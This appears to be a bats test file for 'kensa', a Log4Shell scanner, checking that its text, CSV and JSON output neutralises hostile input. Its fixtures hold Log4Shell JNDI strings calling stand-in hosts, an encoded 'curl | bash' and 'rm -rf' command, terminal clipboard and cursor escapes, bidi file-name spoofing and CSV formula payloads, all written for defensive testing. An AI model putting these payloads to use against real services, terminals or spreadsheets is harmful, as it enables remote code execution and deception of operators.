#!/usr/bin/env bats
# output.bats - what the writers put out stays whole and harmless: large
# indicator tables, terminal escapes in names and log lines, CSV formula
# injection, and records far larger than a line buffer.  Every fixture is
# written by the test itself.

load helpers

setup_file() {
    export W="$BATS_FILE_TMPDIR/out"
    mkdir -p "$W"
}

# many_hosts FILE N: N combined-log lines, each from its own address with
# its own callback host hNNNNN.example.com
many_hosts() {
    python3 - "$1" "$2" <<'PY'
import sys
with open(sys.argv[1], "w") as f:
    for i in range(int(sys.argv[2])):
        f.write('10.%d.%d.%d - - [11/Dec/2021:10:00:01 +0000] "GET /?q='
                '${jndi:ldap://h%05d.example.com/a} HTTP/1.1" 200 5 "-" '
                '"curl/7.0"\n' % (i >> 16, (i >> 8) & 255, i & 255, i))
PY
}

@test "100k distinct callback hosts: the whole log is read, the last line reported" {
    many_hosts "$W/hosts.log" 100000
    run "$KENSA" logs --threads 1 --color never --max-scantime 20000 "$W/hosts.log"
    [ "$status" -eq 1 ]
    [[ "$output" != *"max-scantime"* ]]
    [[ "$output" == *"hosts.log:100000:"* ]]
    [[ "$output" == *"ldap://h99999.example.com (example.com) 1"* ]]
    [[ "$output" == *"Findings: 100000"* ]]
    [[ "$output" != *"more not kept"* ]]
    # one more distinct host than a table keeps: counted and said
    many_hosts "$W/hosts.log" 100001
    run "$KENSA" logs --threads 1 --color never --no-summary "$W/hosts.log"
    [ "$status" -eq 1 ]
    [[ "$output" == *"hosts.log:100001:"* ]]
    [[ "$output" == *"(1 more not kept: at most 100000 per table)"* ]]
}

# clean_text FILE: no byte a terminal acts on, except the newlines (and
# with --allow-progress the writer's own "\r\033[K" and SGR colours); no
# C1 (as UTF-8 or raw), no bidi control; valid UTF-8.  (A terminal turns
# "\n" into "\r\n".)
clean_text() {
    python3 - "$@" <<'PY'
import re, sys
data = open(sys.argv[1], "rb").read()
if "--allow-progress" in sys.argv:
    data = re.sub(rb"\r\x1b\[K|\x1b\[[0-9;]*m|\r(?=\n)", b"", data)
bad = re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", data)
if bad:
    sys.exit("control byte %r at %d" % (bad.group(), bad.start()))
text = data.decode("utf-8")    # raises on raw C1 bytes and other non-UTF-8
for ch in text:
    if 0x80 <= ord(ch) <= 0x9f or ord(ch) in (0x61c, 0x200e, 0x200f) or \
       0x202a <= ord(ch) <= 0x202e or 0x2066 <= ord(ch) <= 0x2069:
        sys.exit("unsafe code point U+%04X" % ord(ch))
PY
}

@test "text output escapes terminal controls, C1, bad UTF-8 and bidi from log lines" {
    cmd=$(printf 'curl x\xe2\x80\xae\x9b|bash\tx\nrm -rf' | base64 -w0)
    printf '203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=\033]52;c;ZXZpbA==\007\033[1A\033[2K${jndi:ldap://x.evil.example/a}\xc2\x9b31m\x9b\xe2\x80\xaeexe.txt\xe2\x81\xa6 HTTP/1.1" 200 5 "-" "curl/7.0"\n' > "$W/esc.log"
    printf 'UA=${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/%s}\n' "$cmd" >> "$W/esc.log"
    run sh -c '"$KENSA" logs --threads 1 --color never "$1" >"$2" 2>"$3"' _ "$W/esc.log" "$W/esc.out" "$W/esc.err"
    [ "$status" -eq 1 ]
    clean_text "$W/esc.out"
    clean_text "$W/esc.err"
    grep -qF '\x1b]52;c;ZXZpbA==\x07\x1b[1A\x1b[2K${jndi:ldap://x.evil.example/a}\u009b31m\x9b\u202eexe.txt\u2066' "$W/esc.out"
    grep -qF 'command: curl x\u202e\x9b|bash\x09x\x0arm -rf' "$W/esc.out"
    # the IoC summary too
    grep -qF '  curl x\u202e\x9b|bash\x09x\x0arm -rf  (1)' "$W/esc.out"
}

@test "file names: escaped in findings, warnings and progress; Japanese kept" {
    make_fixtures
    d="$W/names"
    mkdir -p "$d"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$d/$(printf 'a\033[2J\033]52;c;eA==\007\xe2\x80\xae.jar')"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$d/ログ検査-log4j-core-2.14.1.jar"
    cp "$FX/hostile/truncated.jar" "$d/$(printf 'b\033[1A\033[2K\x9b.jar')"
    run sh -c '"$KENSA" log4j --threads 1 --color never "$1" >"$2" 2>"$3"' _ "$d" "$W/names.out" "$W/names.err"
    [ "$status" -eq 1 ]
    clean_text "$W/names.out"
    clean_text "$W/names.err"
    grep -qF 'a\x1b[2J\x1b]52;c;eA==\x07\u202e.jar: ' "$W/names.out"
    grep -qF '/ログ検査-log4j-core-2.14.1.jar: ' "$W/names.out"
    grep -qF 'kensa: warning: '"$d"'/b\x1b[1A\x1b[2K\x9b.jar: ' "$W/names.err"
    # the progress line, on a terminal
    command -v script >/dev/null || skip "script(1) not installed"
    script -qec "'$KENSA' log4j --threads 1 --no-summary '$d' 2>&1 >/dev/null" /dev/null > "$W/progress" || true
    grep -qF 'files/s' "$W/progress"
    clean_text "$W/progress" --allow-progress
}

# csv_check FILE COLUMNS [CELL=VALUE|CELL<FILE...]: RFC 4180 with COLUMNS
# cells in every row, no cell a spreadsheet would run, and the given cells
# (row index, column index) holding exactly VALUE (or FILE's text).
csv_check() {
    python3 - "$@" <<'PY'
import csv, sys
csv.field_size_limit(1 << 30)
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
cols = int(sys.argv[2])
assert len(rows) > 1, rows
for r in rows:
    assert len(r) == cols, r
    for c in r:
        assert not c or c[0] not in "=+-@\t\r", r
for want in sys.argv[3:]:
    if "<" in want.split("=", 1)[0]:
        at, name = want.split("<", 1)
        val = open(name, encoding="utf-8").read()
    else:
        at, val = want.split("=", 1)
    i, j = map(int, at.split(","))
    assert rows[i][j] == val, (rows[i][j], val)
PY
}

@test "CSV: formulas neutralised, quotes doubled, decoded CR/LF cannot forge rows" {
    printf '%s\n' '{"remote_addr":"=cmd|'"'"' /C calc'"'"'!A0","msg":"${jndi:ldap://x.evil.example/a}"}' \
        '%24%7Bjndi%3Aldap%3A%2F%2Fa.example%22%0D%0Aip%2C%22%3D1%2B1%2Fa%7D' \
        '{"client_ip":"@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0","msg":"${jndi:ldap://-2+3.example/a}"}' > "$W/inj.log"
    run sh -c '"$KENSA" logs --csv --no-summary --threads 1 --export-iocs "$2" "$1" > "$3"' _ "$W/inj.log" "$W/iocs.csv" "$W/report.csv"
    [ "$status" -eq 1 ]
    csv_check "$W/report.csv" 15 "1,14='=cmd|' /C calc'!A0" "3,14='@SUM(1+1)*cmd|' /C calc'!A0"
    csv_check "$W/iocs.csv" 4 "0,0=type" "1,0=host" \
        "2,1=a.example\""$'\r\n'"ip,\"=1+1" "3,1='-2+3.example" \
        "4,1='=cmd|' /C calc'!A0" "5,1='@SUM(1+1)*cmd|' /C calc'!A0"
    # three findings, three hosts, two sources and the log: nothing more
    [ "$(python3 -c 'import csv,sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))))' "$W/iocs.csv")" -eq 7 ]
    csv_check "$W/iocs.csv" 4 "6,0=file"
}

@test "a 1 MB path: every record written whole and valid (JSON, CSV, text)" {
    make_fixtures
    # sixteen nested jars, each member name 65000 bytes with quotes in it
    # (doubled in CSV, escaped in JSON: past the old 1 MiB record cap)
    python3 - "$FX/plain/log4j-core-2.14.1.jar" "$W/deep.jar" <<'PY'
import io, sys, zipfile
inner = open(sys.argv[1], "rb").read()
names = []
for lvl in range(16):
    name = "%02d" % lvl + 'x"' * 32490 + "日本.jar"
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr(name, inner)
    inner = b.getvalue()
    names.insert(0, name)
open(sys.argv[2], "wb").write(inner)
open(sys.argv[2] + ".path", "w").write("!/".join([sys.argv[2]] + names))
PY
    run sh -c '"$KENSA" log4j --json --no-summary --threads 1 "$1" > "$2"' _ "$W/deep.jar" "$W/deep.json"
    [ "$status" -eq 1 ]
    [ "$(wc -l < "$W/deep.json")" -eq 2 ]   # the finding, the run record
    head -1 "$W/deep.json" | jqe --rawfile p "$W/deep.jar.path" '.kensa.path == $p and .kensa.verdict == "vulnerable"
        and .kensa.truncated == null' >/dev/null
    run sh -c '"$KENSA" log4j --csv --no-summary --threads 1 "$1" > "$2"' _ "$W/deep.jar" "$W/deep.csv"
    [ "$status" -eq 1 ]
    csv_check "$W/deep.csv" 15 "1,3=vulnerable" "1,8<$W/deep.jar.path"
    run sh -c '"$KENSA" log4j --no-summary --threads 1 --color never "$1" > "$2"' _ "$W/deep.jar" "$W/deep.txt"
    [ "$status" -eq 1 ]
    python3 -c 'import sys
want = "CRITICAL " + open(sys.argv[2], encoding="utf-8").read() + ": log4j-core 2.14.1"
assert any(l.startswith(want) for l in open(sys.argv[1], encoding="utf-8")), "cut"' \
        "$W/deep.txt" "$W/deep.jar.path"
}
